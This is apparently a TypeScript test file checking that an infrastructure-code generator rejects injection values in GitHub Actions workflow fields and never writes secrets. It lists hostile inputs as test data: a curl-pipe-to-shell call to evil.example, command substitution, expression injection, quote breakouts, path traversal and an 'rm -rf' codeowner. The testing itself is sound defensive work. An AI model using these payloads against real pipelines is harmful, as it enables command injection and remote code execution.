/*
 * Payload values and the generated workflows: a value that could reach a
 * `run:` script is either rejected by the contract (with a message naming
 * the field) or reaches the workflow only through `env:` / `with:` as a
 * quoted YAML scalar. Also: every print in the shared partials is escaped,
 * foreign syntaxes pass through, and nothing from secret fields is written.
 */
import fs from 'node:fs';
import path from 'node:path';
import YAML from 'yaml';
import {
  findUnescapedPrints,
  PayloadValidationError,
  requireGenerated,
} from '@iacforge/plugin-iac-node';
import {
  governanceEngine,
  governanceRoot,
  gitopsRoot,
  listFiles,
  renderOwn,
} from './lib/governance/engine';
import {
  basePayload,
  CLOUDS,
  GITOPS_ON,
  merge,
  RECONCILIATION_ON,
} from './lib/governance/payloads';
import { isWorkflowPath, runScripts } from './lib/governance/workflows';

const HOSTILE = [
  '$(curl -s https://evil.example | sh)',
  '`id`',
  '${{ github.token }}',
  'main"; echo pwned; "',
  "x' || true",
  'a\nrun: evil',
  '../../etc/passwd',
  '{{ .Values.x }}',
];

/** Every string field that a generated workflow (or its scripts) can see. */
const FIELDS: [string, (cloud: string) => string[]][] = [
  [
    'governance_context.default_branch',
    () => ['governance_context', 'default_branch'],
  ],
  [
    'governance_context.apply_environment',
    () => ['governance_context', 'apply_environment'],
  ],
  [
    'governance_context.drift_schedule',
    () => ['governance_context', 'drift_schedule'],
  ],
  ['terraform_context.project', () => ['terraform_context', 'project']],
  ['terraform_context.environment', () => ['terraform_context', 'environment']],
  [
    'terraform_context.cluster_name',
    () => ['terraform_context', 'cluster_name'],
  ],
  [
    'terraform_context.kubernetes_version',
    () => ['terraform_context', 'kubernetes_version'],
  ],
  [
    'terraform_context.terraform_version',
    () => ['terraform_context', 'terraform_version'],
  ],
  [
    'terraform_context.<region>',
    c => [
      'terraform_context',
      { aws: 'aws_region', azure: 'location', gcp: 'gcp_region' }[c]!,
    ],
  ],
  [
    'terraform_context.<node size>',
    c => [
      'terraform_context',
      { aws: 'node_pool_instance_type', azure: 'vm_size', gcp: 'machine_type' }[
        c
      ]!,
    ],
  ],
  ['helm_context.chart_name', () => ['helm_context', 'chart_name']],
  ['helm_context.namespace', () => ['helm_context', 'namespace']],
  ['helm_context.image_tag', () => ['helm_context', 'image_tag']],
];

/** The error generating a payload throws (undefined when it renders). */
function rejection(payload: unknown): unknown {
  try {
    requireGenerated(governanceEngine().generate('platform', payload));
    return undefined;
  } catch (error) {
    return error;
  }
}

function withValue(
  payload: Record<string, any>,
  [section, field]: string[],
  value: unknown,
) {
  return merge(payload, { [section]: { [field]: value } });
}

describe('payload values in workflows', () => {
  for (const cloud of CLOUDS) {
    it.each(FIELDS.map(([name, f]) => [name, f] as const))(
      `${cloud}: hostile %s is rejected with a clear error`,
      (_, f) => {
        const where = f(cloud);
        const base = basePayload(
          cloud,
          merge(GITOPS_ON, { enable_native_checks: true }),
        );
        for (const value of HOSTILE) {
          const error = rejection(withValue(base, where, value));
          expect(error).toBeInstanceOf(PayloadValidationError);
          const issue = (error as PayloadValidationError).issues.find(
            i => i.path === where.join('.'),
          );
          expect(issue?.message).toMatch(/.{10}/);
        }
      },
    );
  }

  it('codeowners are rejected unless they are GitHub handles', () => {
    for (const value of [
      '@org/team; rm -rf',
      '@a\n* @evil',
      '@${{ github.actor }}',
    ]) {
      expect(() =>
        requireGenerated(
          governanceEngine().generate(
            'platform',
            basePayload('aws', { governance_context: { codeowners: [value] } }),
          ),
        ),
      ).toThrow(/governance_context\.codeowners/);
    }
  });

  it.each(CLOUDS.map(c => [c]))(
    '%s: accepted values reach scripts only through env: and with:',
    cloud => {
      // distinctive but valid values for every field a workflow uses
      const payload = basePayload(
        cloud,
        merge(merge(RECONCILIATION_ON, GITOPS_ON), {
          enable_native_checks: true,
          governance_context: {
            default_branch: 'sentinel-branch',
            apply_environment: 'sentinel-env',
            drift_schedule: '17 3 * * 2',
            codeowners: ['@sentinel-org/sentinel-team'],
          },
          terraform_context: {
            project: 'sentinelproj',
            environment: 'sentinelenv',
            cluster_name: 'sentinel-cluster',
            terraform_version: '1.11.4',
          },
          helm_context: {
            chart_name: 'sentinelchart',
            namespace: 'sentinelns',
            image_tag: 'sentinel-tag-1',
          },
        }),
      );
      const sentinels = ['sentinel', '17 3 * * 2', '1.11.4'];
      const files = renderOwn(payload);
      let seen = 0;
      for (const [file, source] of files) {
        if (!isWorkflowPath(file) && !file.endsWith('.sh')) continue;
        const scripts = isWorkflowPath(file)
          ? [
              ...runScripts(file, source).map(s => s.script),
              ...Object.values(YAML.parse(source).jobs).flatMap((j: any) =>
                (j.steps ?? []).map((s: any) => s.with?.script).filter(Boolean),
              ),
            ]
          : [source];
        for (const script of scripts) {
          for (const s of sentinels) expect(script).not.toContain(s);
        }
        if (sentinels.some(s => source.includes(s))) seen++;
      }
      // the values are there, in env: / with: / on: (quoted YAML scalars)
      expect(seen).toBeGreaterThan(3);
      expect(files.get('.github/workflows/infra-plan.yml')).toContain(
        'STACK: "sentinelproj-sentinelenv-sentinel-cluster"',
      );
      expect(
        files.get('.github/workflows/infra-drift-detection.yml'),
      ).toContain('- cron: "17 3 * * 2"');
      expect(files.get('.github/CODEOWNERS')).toContain(
        '* @sentinel-org/sentinel-team',
      );
    },
  );

  it('keeps GitHub Actions expressions and shell syntax intact', () => {
    const files = renderOwn(
      basePayload('azure', { enable_native_checks: true }),
    );
    const plan = files.get('.github/workflows/infra-plan.yml')!;
    expect(plan).toContain('${{ vars.AZURE_CLIENT_ID }}');
    expect(plan).toContain('${{ steps.plan.outputs.exitcode }}');
    expect(plan).toContain('"${PIPESTATUS[0]}"');
    expect(files.get('.github/scripts/native-checks.sh')).toContain(
      '${KUBERNETES_VERSION:?}',
    );
  });

  it('every print in the shared partials ends with an escaping filter', () => {
    for (const dir of [
      path.join(governanceRoot, '_partials'),
      path.join(gitopsRoot, '_partials'),
    ]) {
      for (const file of listFiles(dir).filter(f => f.endsWith('.njk'))) {
        expect({
          file,
          unescaped: findUnescapedPrints(
            fs.readFileSync(path.join(dir, file), 'utf8'),
          ),
        }).toEqual({ file, unescaped: [] });
      }
    }
  });

  it('never writes a secret field', () => {
    const secrets = {
      telemetry_enabled: true,
      telemetry_provider: 'splunk',
      telemetry_otlp_endpoint: 'https://ingest.example.com/v2/otlp',
      telemetry_auth_token: 'Bearer otlp-secret-token-1234',
    };
    const files = renderOwn(
      basePayload('gcp', merge(GITOPS_ON, { helm_context: secrets })),
    );
    for (const [, source] of files)
      expect(source).not.toContain('otlp-secret-token-1234');
  });
});
